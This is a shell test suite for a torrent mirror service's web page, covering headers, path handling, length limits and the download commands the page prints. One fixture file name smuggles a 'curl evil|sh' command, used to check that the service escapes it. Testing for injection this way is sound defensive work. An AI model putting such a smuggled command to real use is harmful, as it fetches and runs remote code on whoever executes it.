#! /usr/bin/env atf-sh
# SPDX-License-Identifier: ISC
# The page for people: its form, its links and its commands.

. "${0%/*}/../lib/lib.sh"

html='Accept: text/html,application/xhtml+xml,*/*;q=0.8'
odd="we ird';curl evil|sh;'[1].iso"

people_files()
{
	: >trackers
	mkdir -p www/pub/sub
	random 300000 www/pub/a.iso "www/pub/$odd" www/pub/sub/b.iso
	settle www/pub/* www/pub/sub/*
}

# ask_path TEXT [option ...]: as the form sends it.
ask_path()
{
	_typed=$1
	shift
	ask "$service/" -G --data-urlencode "path=$_typed" "$@"
}

# want_path PATH TEXT: the page of that text has the links of the path.
want_path()
{
	ask_path "$2" -H "$html"
	same "$status" 200 "the answer to '$2'"
	grep -q -F "href=\"$url$service/simple$1\"" body ||
	    fail "'$2' is not $1: $(grep href body)"
	ask_path "$2"
	grep -q -F "'$url$service/meta4$1'" body || fail "no $1 as text"
}

service_case kinds "HTML for those that name it, text for all others."
kinds_body()
{
	service_start
	for _accept in 'Accept:' 'Accept: */*' 'Accept: text/plain, text/*' \
	    'Accept: text/html;q=0, */*'; do
		want 200 $service/ -H "$_accept"
		want_field Content-Type 'text/plain; charset=utf-8'
		want_body "^  aria2c .* '$url$service/simple/PATH'\$"
		! grep -q '<' body || fail "tags in text"
	done
	for _accept in "$html" 'Accept: text/plain, TEXT/html;q=0.1'; do
		want 200 $service/ -H "$_accept"
		want_field Content-Type 'text/html; charset=utf-8'
		want_body '^<!DOCTYPE html>$'
		want_field Vary 'Accept, X-Forwarded-Proto'
		want_field X-Content-Type-Options nosniff
		want_field Cache-Control 'public, max-age=300'
		want_field Content-Length "$(stat -c %s body)"
		_style=$(python3 -c 'import base64, hashlib, re, sys
style = re.search(b"<style>(.*)</style>", open("body", "rb").read(), re.S)
print(base64.b64encode(hashlib.sha256(style[1]).digest()).decode())')
		want_field Content-Security-Policy "default-src 'none';\
 style-src 'sha256-$_style'; form-action 'self'; frame-ancestors 'none';\
 base-uri 'none'"
	done
	if command -v xmllint >/dev/null; then
		atf_check -e save:errors xmllint --html --noout body
		# It knows no elements of HTML 5.
		! grep error errors | grep -v 'Tag main invalid' ||
		    fail "not well-formed"
	fi
	# A path is nobody's business, be it blank.
	for _query in '?' '?path=' '?path=/pub/a' '?other'; do
		# Newer versions of curl leave an empty query out of a URL.
		want 200 $service/ --request-target "$service/$_query"
		want_field Cache-Control no-store
	done
	# HEAD has the same fields.
	want 200 $service/ -H "$html"
	grep -v '^Date' head >get
	want 200 $service/ -H "$html" -I
	grep -v '^Date' head | atf_check cmp get -
	# The URL without a slash is the same page, by any name.
	want 200 $service
	want_body "'$url$service/simple/PATH'"
	want 200 //x%20y/./torrent%5Fservice/.
	want_body "'$url/x%20y/torrent_service/simple/PATH'"
	want 404 /torrent_service/
}

service_case methods "Other methods, pages of other origins, and the log."
methods_body()
{
	service_start "access-log $here/access" 'cors yes'
	for _method in POST PUT DELETE; do
		want 405 $service/ -X $_method
		want_field Allow 'GET, HEAD, OPTIONS'
	done
	want 204 $service -X OPTIONS
	want_field Allow 'GET, HEAD, OPTIONS'
	want_field Access-Control-Allow-Methods '*'
	want 200 $service/ -H "$html"
	want_field Access-Control-Allow-Origin '\*'
	want_log '"GET /mirror/torrent_service/ HTTP/1.1" 200 .* page 0 -$' \
	    access
}

service_case typed "A path means the same however it is typed."
typed_body()
{
	service_start 'web-seed http://seed.example/copy'
	for _text in /pub/a.iso pub/a.iso '  pub//./a.iso ' \
	    "$url/pub/a.iso" "${url#http://}/pub/a.iso#x" \
	    "HTTPS://127.0.0.1/%70ub/a.iso?y" \
	    "$url$service/simple/pub/a.iso" http://seed.example/copy/pub/a.iso
	do
		want_path /pub/a.iso "$_text"
	done
	want_path /pub/%2A%2A/%5Bab%5D%3F.iso 'pub/**/[ab]?.iso'
	want_path /pub/%2A%2A pub/
	want_path /we%20ird%27%3Bcurl%20evil%7Csh%3B%27%5B1%5D.iso "$odd"
	want_body "'$url$service/"
	ask_path '  '
	want_body "'$url$service/simple/PATH'"
	for _text in / /pub/../a http://other.example/pub/a.iso \
	    ftp://127.0.0.1/a javascript://127.0.0.1/a "$url/%zz" "$url"; do
		ask_path "$_text" -H "$html"
		same "$status" 400 "the answer to '$_text'"
		want_field Content-Type 'text/plain; charset=utf-8'
		want_field Cache-Control no-store
		same "$(wc -l <body)" 1 "lines of the error"
	done
	want 400 "$service/?path=%zz"
	want 400 "$service/?path=/a&path=/b"
	want_body 'twice'
}

service_case limit "A page has at most 16 KiB, and a path past that is refused."
limit_body()
{
	service_start
	_long=$(printf '/%4094s' | tr ' ' a)
	ask_path "$_long" -H "$html"
	same "$status" 414 "the answer to a long path"
	want_body 'longer than 16 KiB; ask for a shorter path'
	ask_path "$_long$_long"
	same "$status" 414 "the answer to one that no request line has"
	_less=0
	_more=4000
	while [ $((_more - _less)) -gt 1 ]; do
		_n=$(((_less + _more) / 2))
		ask_path "$(printf %.${_n}s "$_long")" -H "$html"
		case $status in
		200) _less=$_n ;;
		414) _more=$_n ;;
		esac
		[ "$(stat -c %s body)" -le 16384 ] || fail "$_n: too long"
	done
	[ $_less -ge 1000 ] || fail "a path of $_less bytes is too long"
}

service_case hosts "The page names the host that was asked, if it has it."
hosts_body()
{
	service_start 'host m.example'
	want 421 $service/
	want 200 $service/ -H 'Host: M.example:81' -H 'X-Forwarded-Proto: https'
	want_body "'https://m.example:81$service/simple/PATH'"
	want 421 $service/ --http1.0 -H Host:
	service_reload 'proxy none'
	want 200 $service/ -H 'X-Forwarded-Proto: https'
	want_body "'$url$service/simple/PATH'"
	want_field Vary Accept
	want 400 $service/ --http1.0 -H Host:
	want_body 'send a Host field, or have base-url set'
	service_reload "base-url http://cdn.example/a%20b/c'd"
	want 200 $service/ --http1.0 -H Host:
	want_body "'http://cdn.example/a%20b/c%27d$service/simple/PATH'"
	want_field Vary Accept
	ask_path "http://cdn.example/a%20b/c'd/pub/x"
	want_body "'http://cdn.example/a%20b/c%27d$service/simple/pub/x'"
}

service_case asks_nobody "The page comes without walkers and the cache."
asks_nobody_body()
{
	people_files
	service_start
	_workers=$(children 'walker|cache|hasher|tracker')
	kill -STOP $_workers
	want_path /pub/a.iso pub/a.iso
	want_path /nothing/%2A%2A /nothing/
	kill -CONT $_workers
}

service_case tracker "The page says whether clients find each other."
tracker_body()
{
	: >trackers
	service_start
	want_log 'torrents name the tracker'
	want 200 $service/
	want_body 'The torrents name a tracker'
	service_reload 'tracker no'
	want 200 $service/ -H "$html"
	want_body 'The torrents name no tracker'
	echo udp://one.example:6969 >trackers
	service_reload 'tracker no'
	want 200 $service/ -H "$html"
	want_body 'The torrents name a tracker'
}

service_case commands "A shell runs the commands as they stand." aria2c
commands_body()
{
	people_files
	# It is the client of the tracker.
	service_start 'serve-files yes' 'proxy none'
	ask_path "/pub/$odd"
	sed -n 's/^  \([ac]\)/\1/p' body >commands
	same "$(wc -l <commands)" 3 "the number of commands"
	mkdir got
	while read -r _command; do
		_command=$(echo "$_command" | sed 's/-time=5/-time=0/')
		(cd got && timeout 50 sh -c "$_command") ||
		    fail "it fails: $_command"
		case $_command in
		aria2c*)
			atf_check cmp "www/pub/$odd" "got/$odd"
			rm "got/$odd" ;;
		*)	atf_check [ -s "got/$odd.torrent" ] ;;
		esac
		rm -f got/*.torrent got/*.meta4
	done <commands
	atf_check rmdir got
	# A pattern, from the page as HTML.
	ask_path 'pub/**' -H "$html"
	sed -n 's/.*<code>\(aria2c.*simple.*\)<\/code>.*/\1/p' body >command
	sed -i 's/-time=5/-time=0/' command
	atf_check -o ignore -e ignore timeout 50 sh command
	atf_check cmp www/pub/sub/b.iso pub/sub/b.iso
}

service_case text_browser "A text browser shows the form and the commands." w3m
text_browser_body()
{
	service_start
	export HOME="$here"
	w3m -dump -cols 80 "$url$service/?path=pub/a%20b.iso" >page ||
	    fail "w3m failed"
	cat page
	# Its Accept names text/html.
	for _text in 'Torrents of 127.0.0.1' 'File, pattern or directory' \
	    '\[/pub/a b.iso *\]' 'Get links' 'Torrent *Metalink' \
	    "aria2c --stream-piece-selector=random" \
	    "curl -OJ '$url$service/simple/pub/a%20b.iso'" 'meta4/PATH'; do
		grep -q -e "$_text" page || fail "no '$_text'"
	done
	# Links and fields are numbered.
	w3m -dump -cols 80 -o display_link_number=1 \
	    "$url$service/?path=pub/a%20b.iso" >page
	cat page
	for _kind in simple meta4; do
		grep -q "^\[[0-9]\] $url$service/$_kind/pub/a%20b.iso\$" page ||
		    fail "no link of $_kind"
	done
}
